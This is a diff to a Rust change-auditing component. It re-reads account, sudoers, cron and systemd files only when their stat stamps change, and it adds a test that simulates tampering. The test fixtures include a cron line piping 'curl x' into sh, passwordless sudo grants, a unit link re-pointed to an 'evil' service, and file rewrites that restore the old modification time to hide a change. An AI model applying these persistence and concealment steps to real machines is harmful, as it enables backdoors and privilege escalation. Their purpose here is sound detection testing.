@@ -7,8 +7,10 @@
 //! configuration (`/etc/sudoers`, `/etc/sudoers.d/`), cron (`/etc/crontab`, `/etc/cron.d/`,
 //! `/var/spool/cron/crontabs/`), systemd units and their enablement links under
 //! `/etc/systemd/system/`, and where dpkg's log ends. Every round (each chunk cut, and whenever
-//! inotify reports a change) it reads them again and writes what differs, then takes that as
-//! the new snapshot: a user added, a member added to a group, a password changed, a sudoers or
+//! inotify reports a change) it looks at the stamps (`stat`) of everything the snapshot read,
+//! and where one moved (or every [`FULL_READ_EVERY`] in any case) it reads them again and
+//! writes what differs, then takes that as the new snapshot ([`Inputs`] says why the stamps are
+//! enough): a user added, a member added to a group, a password changed, a sudoers or
 //! cron line added or removed, a unit enabled, created or masked, a package installed or
 //! removed. Files created, modified, removed or re-permissioned under `/etc`, `/usr/local` and
 //! `/root` are reported as inotify sees them (directories watched to a bounded depth and count;
@@ -133,7 +135,8 @@ fn open_regular(path: &Path) -> Option<std::fs::File> {
     f.metadata().ok().filter(|m| m.is_file()).map(|_| f)
 }
 
-fn read_content(path: &Path) -> Content {
+fn read_content(path: &Path, seen: &mut Inputs) -> Content {
+    seen.note(path);
     let Some(mut f) = open_regular(path) else {
         return Content::Missing;
     };
@@ -193,6 +196,85 @@ struct Account {
     shell: String,
 }
 
+/// What a snapshot's reads depended on: every file, link and directory [`Snapshot::take_noting`]
+/// looked at, with what `lstat` and `stat` said of it just before. While none of them has
+/// changed, reading them again gives the same snapshot, so a round compares these stamps
+/// ([`Inputs::unchanged`], some hundred `stat` calls) instead of reading and parsing every file
+/// again: that was most of an idle session's ledger cost.
+///
+/// A stamp is the inode, mode, owner, link count, size and the modification and change times
+/// to the nanosecond. A write to a file moves its change time (`ctime`), which no system call
+/// sets back (`utimensat` sets only the others), and an entry added to or removed from a
+/// directory moves the directory's. Only stepping the system clock back to the old time to the
+/// nanosecond could give a changed file its old stamp; the full read every [`FULL_READ_EVERY`]
+/// catches even that.
+#[derive(Debug, Default)]
+pub struct Inputs(Vec<(PathBuf, Stamp)>);
+
+/// What `lstat` (the name itself) and `stat` (where it leads) say of a path; `None` where it
+/// is missing.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+struct Stamp {
+    name: Option<Meta>,
+    target: Option<Meta>,
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+struct Meta {
+    dev: u64,
+    ino: u64,
+    mode: u32,
+    nlink: u64,
+    uid: u32,
+    gid: u32,
+    size: u64,
+    mtime: (i64, i64),
+    ctime: (i64, i64),
+}
+
+impl Meta {
+    fn of(m: &std::fs::Metadata) -> Meta {
+        use std::os::unix::fs::MetadataExt;
+        Meta {
+            dev: m.dev(),
+            ino: m.ino(),
+            mode: m.mode(),
+            nlink: m.nlink(),
+            uid: m.uid(),
+            gid: m.gid(),
+            size: m.size(),
+            mtime: (m.mtime(), m.mtime_nsec()),
+            ctime: (m.ctime(), m.ctime_nsec()),
+        }
+    }
+}
+
+impl Stamp {
+    fn of(path: &Path) -> Stamp {
+        Stamp {
+            name: std::fs::symlink_metadata(path).ok().map(|m| Meta::of(&m)),
+            target: std::fs::metadata(path).ok().map(|m| Meta::of(&m)),
+        }
+    }
+}
+
+impl Inputs {
+    /// Stamps `path`. Called before it is read: a change between the stamp and the read is
+    /// then in the snapshot and seen as a change of stamp next round (read again, found equal),
+    /// never the other way round (a read of the old content under a new stamp would hide it).
+    fn note(&mut self, path: &Path) {
+        self.0.push((path.to_owned(), Stamp::of(path)));
+    }
+
+    /// Whether every path the snapshot read still has the stamp it had.
+    pub fn unchanged(&self) -> bool {
+        self.0.iter().all(|(path, stamp)| Stamp::of(path) == *stamp)
+    }
+}
+
+/// How often a round reads every structured file again even though no stamp changed.
+pub const FULL_READ_EVERY: std::time::Duration = std::time::Duration::from_secs(30);
+
 /// What the structured areas held at the last round.
 #[derive(Debug, Clone, Default, PartialEq, Eq)]
 pub struct Snapshot {
@@ -221,7 +303,7 @@ fn text_of(c: &Content) -> &str {
 /// A file of a configuration directory or an include: its lines, or, for a link (symbolic or
 /// hard, which may be any file, `/etc/shadow` too) and for a shadow file, only where it points
 /// and a digest of it: what changed is said without copying another file's secrets into the ledger.
-fn read_entry(path: &Path) -> Content {
+fn read_entry(path: &Path, seen: &mut Inputs) -> Content {
     use std::os::unix::fs::MetadataExt;
     // A hard link is another name of a file that may be anything, `/etc/shadow` too.
     let link =
@@ -230,12 +312,12 @@ fn read_entry(path: &Path) -> Content {
         .file_name()
         .is_some_and(|n| n == "shadow" || n == "gshadow");
     if !link && !shadow {
-        return read_content(path);
+        return read_content(path, seen);
     }
     let target = std::fs::read_link(path)
         .map(|t| format!("-> {}, ", t.display()))
         .unwrap_or_default();
-    match read_content(path) {
+    match read_content(path, seen) {
         Content::Missing => Content::Missing,
         Content::Large(d) => Content::Large(format!("{target}{d}")),
         Content::Text(t) => Content::Large(format!(
@@ -247,8 +329,10 @@ fn read_entry(path: &Path) -> Content {
 }
 
 /// The regular files of `dir` (sorted, bounded), as paths shown from `root`.
-fn dir_files(root: &Path, rel: &str) -> Vec<(String, PathBuf)> {
-    let Ok(entries) = std::fs::read_dir(root.join(rel)) else {
+fn dir_files(root: &Path, rel: &str, seen: &mut Inputs) -> Vec<(String, PathBuf)> {
+    let dir = root.join(rel);
+    seen.note(&dir);
+    let Ok(entries) = std::fs::read_dir(&dir) else {
         return Vec::new();
     };
     let mut out: Vec<(String, PathBuf)> = entries
@@ -274,9 +358,15 @@ fn dir_files(root: &Path, rel: &str) -> Vec<(String, PathBuf)> {
 impl Snapshot {
     /// Reads the structured areas under `root`.
     pub fn take(root: &Path) -> Snapshot {
+        Self::take_noting(root).0
+    }
+
+    /// Reads the structured areas under `root`, and says what the reads depended on.
+    pub fn take_noting(root: &Path) -> (Snapshot, Inputs) {
+        let mut seen = Inputs::default();
         let mut s = Snapshot::default();
         // Read as the C library (and the trigger) read them: `crate::accounts`.
-        let passwd = read_content(&root.join("etc/passwd"));
+        let passwd = read_content(&root.join("etc/passwd"), &mut seen);
         for u in accounts::users(text_of(&passwd)) {
             s.users.insert(
                 u.name.to_owned(),
@@ -288,7 +378,7 @@ impl Snapshot {
                 },
             );
         }
-        let group = read_content(&root.join("etc/group"));
+        let group = read_content(&root.join("etc/group"), &mut seen);
         for g in accounts::groups(text_of(&group)) {
             let members = g.members.iter().map(|m| (*m).to_owned()).collect();
             // The first entry of a name, as lookups see it; members of a later one count too.
@@ -301,7 +391,7 @@ impl Snapshot {
                 }
             }
         }
-        let shadow = read_content(&root.join("etc/shadow"));
+        let shadow = read_content(&root.join("etc/shadow"), &mut seen);
         for f in accounts::records(text_of(&shadow)) {
             if f.len() >= 2 {
                 s.passwords
@@ -310,24 +400,24 @@ impl Snapshot {
         }
         s.sudo.insert(
             "/etc/sudoers".into(),
-            read_content(&root.join("etc/sudoers")),
+            read_content(&root.join("etc/sudoers"), &mut seen),
         );
-        for (shown, path) in dir_files(root, "etc/sudoers.d") {
-            s.sudo.insert(shown, read_entry(&path));
+        for (shown, path) in dir_files(root, "etc/sudoers.d", &mut seen) {
+            s.sudo.insert(shown, read_entry(&path, &mut seen));
         }
-        s.follow_sudo_includes(root);
+        s.follow_sudo_includes(root, &mut seen);
         s.cron.insert(
             "/etc/crontab".into(),
-            read_content(&root.join("etc/crontab")),
+            read_content(&root.join("etc/crontab"), &mut seen),
         );
         for rel in ["etc/cron.d", "var/spool/cron/crontabs"] {
-            for (shown, path) in dir_files(root, rel) {
-                s.cron.insert(shown, read_entry(&path));
+            for (shown, path) in dir_files(root, rel, &mut seen) {
+                s.cron.insert(shown, read_entry(&path, &mut seen));
             }
         }
-        s.units = units(root);
+        s.units = units(root, &mut seen);
         s.dpkg_log_end = std::fs::metadata(root.join("var/log/dpkg.log")).map_or(0, |m| m.len());
-        s
+        (s, seen)
     }
 }
 
@@ -336,7 +426,7 @@ impl Snapshot {
     /// paths are relative to `/etc`, paths with sudo's `%` escapes are not followed), and the
     /// files those include, at most [`MAX_INCLUDES`] in all: a grant hidden in an included
     /// file outside `/etc/sudoers.d` is in the ledger like any other.
-    fn follow_sudo_includes(&mut self, root: &Path) {
+    fn follow_sudo_includes(&mut self, root: &Path, seen: &mut Inputs) {
         let mut read = 0;
         for _ in 0..3 {
             let wanted: Vec<(bool, String)> = self
@@ -364,7 +454,7 @@ impl Snapshot {
                     continue;
                 }
                 let files = if dir {
-                    dir_files(root, rel)
+                    dir_files(root, rel, seen)
                 } else {
                     vec![(abs.clone(), root.join(rel))]
                 };
@@ -376,7 +466,7 @@ impl Snapshot {
                         return;
                     }
                     read += 1;
-                    self.sudo.insert(shown, read_entry(&path));
+                    self.sudo.insert(shown, read_entry(&path, seen));
                     added = true;
                 }
             }
@@ -389,11 +479,16 @@ impl Snapshot {
 
 /// The units and enablement links under /etc/systemd/system (two levels: `x.service` and
 /// `multi-user.target.wants/x.service`).
-fn units(root: &Path) -> BTreeMap<String, String> {
+fn units(root: &Path, seen: &mut Inputs) -> BTreeMap<String, String> {
     let mut out = BTreeMap::new();
     let base = root.join("etc/systemd/system");
-    let visit = |dir: &Path, prefix: &str, out: &mut BTreeMap<String, String>| -> Vec<PathBuf> {
+    let visit = |dir: &Path,
+                 prefix: &str,
+                 out: &mut BTreeMap<String, String>,
+                 seen: &mut Inputs|
+     -> Vec<PathBuf> {
         let mut subdirs = Vec::new();
+        seen.note(dir);
         let Ok(entries) = std::fs::read_dir(dir) else {
             return subdirs;
         };
@@ -403,6 +498,7 @@ fn units(root: &Path) -> BTreeMap<String, String> {
             let Ok(t) = e.file_type() else { continue };
             let key = format!("{prefix}{name}");
             if t.is_symlink() {
+                seen.note(&path);
                 let target = std::fs::read_link(&path)
                     .map(|p| p.display().to_string())
                     .unwrap_or_default();
@@ -410,7 +506,7 @@ fn units(root: &Path) -> BTreeMap<String, String> {
             } else if t.is_dir() {
                 subdirs.push(path);
             } else if t.is_file() {
-                let digest = match read_content(&path) {
+                let digest = match read_content(&path, seen) {
                     Content::Text(t) => Sha256Digest::of(t.as_bytes()).to_hex(),
                     Content::Large(d) => d,
                     Content::Missing => String::new(),
@@ -420,9 +516,9 @@ fn units(root: &Path) -> BTreeMap<String, String> {
         }
         subdirs
     };
-    for sub in visit(&base, "", &mut out) {
+    for sub in visit(&base, "", &mut out, seen) {
         let prefix = format!("{}/", sub.file_name().unwrap_or_default().to_string_lossy());
-        visit(&sub, &prefix, &mut out);
+        visit(&sub, &prefix, &mut out, seen);
     }
     out
 }
@@ -821,7 +917,8 @@ impl EventSource for ChangeSource {
     fn run(self: Box<Self>, mut sink: EventSink, stop: Arc<AtomicBool>) {
         let ChangeSource { config } = *self;
         let started = std::time::Instant::now();
-        let mut snapshot = Snapshot::take(&config.root);
+        let (mut snapshot, mut inputs) = Snapshot::take_noting(&config.root);
+        let mut read_at = std::time::Instant::now();
         let took = started.elapsed();
         if took > SLOW_SNAPSHOT {
             status(
@@ -874,12 +971,21 @@ impl EventSource for ChangeSource {
                 .as_mut()
                 .map(|t| t.drain(&config.root))
                 .unwrap_or_default();
-            let next = Snapshot::take(&config.root);
             // The structured changes first, then the files: a flood of file writes (an admin
             // touching thousands of files to exhaust the event budget) must not push an
             // account or sudoers change into a summary. Files beyond a round's share are one
             // change saying how many.
-            let mut changes = diff(&snapshot, &next, &config.redactor);
+            let mut changes = Vec::new();
+            if !inputs.unchanged() || read_at.elapsed() >= FULL_READ_EVERY {
+                let (next, next_inputs) = Snapshot::take_noting(&config.root);
+                read_at = std::time::Instant::now();
+                changes = diff(&snapshot, &next, &config.redactor);
+                snapshot = Snapshot {
+                    dpkg_log_end: snapshot.dpkg_log_end,
+                    ..next
+                };
+                inputs = next_inputs;
+            }
             let (appended, end) = read_log_from(&log, snapshot.dpkg_log_end);
             changes.extend(dpkg_changes(&appended));
             if files.len() > MAX_FILE_CHANGES {
@@ -890,10 +996,7 @@ impl EventSource for ChangeSource {
                 )));
             }
             changes.extend(files);
-            snapshot = Snapshot {
-                dpkg_log_end: end,
-                ..next
-            };
+            snapshot.dpkg_log_end = end;
             // Stamped when the round that found them began: at or after the moment they
             // happened, within a round.
             for c in changes {
@@ -1057,6 +1160,133 @@ mod tests {
         // The shadow file's password fields are never written, only that one changed.
         assert!(!got.iter().any(|g| g.contains("$y$")), "{got:#?}");
         assert_eq!(got.len(), want.len() + 1, "{got:#?}");
+    }
+
+    /// Rewrites `rel` under `root` with `text` until its change time has moved from what it
+    /// was (a write within the same tick of the kernel's coarse clock keeps it), then puts its
+    /// modification time back, as an admin hiding a change would.
+    fn rewrite_keeping_mtime(root: &Path, rel: &str, text: &str) {
+        let p = root.join(rel);
+        let old = std::fs::metadata(&p).unwrap();
+        loop {
+            std::fs::write(&p, text).unwrap();
+            let now = std::fs::metadata(&p).unwrap();
+            use std::os::unix::fs::MetadataExt;
+            if (now.ctime(), now.ctime_nsec()) != (old.ctime(), old.ctime_nsec()) {
+                break;
+            }
+            std::thread::yield_now();
+        }
+        std::fs::File::options()
+            .write(true)
+            .open(&p)
+            .unwrap()
+            .set_modified(old.modified().unwrap())
+            .unwrap();
+    }
+
+    #[test]
+    fn a_change_the_full_read_finds_always_moves_a_stamp() {
+        type Change = Box<dyn Fn(&Path)>;
+        let changes: Vec<(&str, Change)> = vec![
+            (
+                "passwd rewritten at the same length, old mtime",
+                Box::new(|r| {
+                    rewrite_keeping_mtime(
+                        r,
+                        "etc/passwd",
+                        "root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/dash\n",
+                    )
+                }),
+            ),
+            (
+                "shadow password changed",
+                Box::new(|r| write(r, "etc/shadow", "root:*:1::::::\nalice:$y$new:1::::::\n")),
+            ),
+            (
+                "file added to sudoers.d",
+                Box::new(|r| write(r, "etc/sudoers.d/eve", "eve ALL=(ALL) ALL\n")),
+            ),
+            (
+                "included file changed outside /etc",
+                Box::new(|r| write(r, "opt/grants/mallory", "mallory ALL=(ALL) NOPASSWD: ALL\n")),
+            ),
+            (
+                "target of a sudoers.d link changed",
+                Box::new(|r| write(r, "opt/linked", "eve ALL=(ALL) NOPASSWD: ALL\n")),
+            ),
+            (
+                "user crontab appended",
+                Box::new(|r| {
+                    use std::io::Write;
+                    std::fs::OpenOptions::new()
+                        .append(true)
+                        .open(r.join("var/spool/cron/crontabs/root"))
+                        .unwrap()
+                        .write_all(b"* * * * * curl x | sh\n")
+                        .unwrap();
+                }),
+            ),
+            (
+                "enablement link re-pointed",
+                Box::new(|r| {
+                    let l = r.join("etc/systemd/system/multi-user.target.wants/x.service");
+                    std::fs::remove_file(&l).unwrap();
+                    std::os::unix::fs::symlink("/opt/evil.service", &l).unwrap();
+                }),
+            ),
+            (
+                "unit file rewritten at the same length, old mtime",
+                Box::new(|r| {
+                    rewrite_keeping_mtime(
+                        r,
+                        "etc/systemd/system/y.service",
+                        "[Service]\nExecStart=/bin/fals\n",
+                    )
+                }),
+            ),
+        ];
+        for (what, change) in changes {
+            let m = machine();
+            let root = m.path();
+            write(
+                root,
+                "etc/sudoers",
+                "root ALL=(ALL:ALL) ALL\n@includedir /opt/grants\n",
+            );
+            write(root, "opt/grants/mallory", "mallory ALL=(ALL) ALL\n");
+            write(root, "opt/linked", "eve ALL=(ALL) ALL\n");
+            std::fs::create_dir_all(root.join("etc/sudoers.d")).unwrap();
+            std::os::unix::fs::symlink(root.join("opt/linked"), root.join("etc/sudoers.d/l"))
+                .unwrap();
+            write(root, "var/spool/cron/crontabs/root", "0 * * * * true\n");
+            write(
+                root,
+                "etc/systemd/system/y.service",
+                "[Service]\nExecStart=/bin/false\n",
+            );
+            std::fs::create_dir_all(root.join("etc/systemd/system/multi-user.target.wants"))
+                .unwrap();
+            std::os::unix::fs::symlink(
+                "/etc/systemd/system/y.service",
+                root.join("etc/systemd/system/multi-user.target.wants/x.service"),
+            )
+            .unwrap();
+            let (before, inputs) = Snapshot::take_noting(root);
+            assert!(
+                inputs.unchanged(),
+                "{what}: stamps moved with nothing changed"
+            );
+            change(root);
+            assert!(
+                !diff(&before, &Snapshot::take(root), &redactor()).is_empty(),
+                "{what}: the full read finds nothing (the case tests nothing)"
+            );
+            assert!(
+                !inputs.unchanged(),
+                "{what}: no stamp moved, so a round would miss it"
+            );
+        }
     }
 
     #[test]
